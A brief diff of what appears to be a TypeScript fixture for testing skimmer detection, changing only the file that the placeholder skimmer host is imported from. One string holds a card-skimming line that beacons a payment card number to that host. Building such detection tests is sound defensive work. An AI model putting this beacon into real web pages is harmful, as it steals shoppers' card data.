@@ -1,5 +1,5 @@
 // Skimmers whose data, address or code is not named where it is used, or waits for what a test run does not have.
-import { skimmerHost } from './disguises.ts'
+import { skimmerHost } from './skimmer.ts'
 
 const url = `https://${skimmerHost}/`
 const send = `navigator.sendBeacon("//${skimmerHost}", pay.number)`
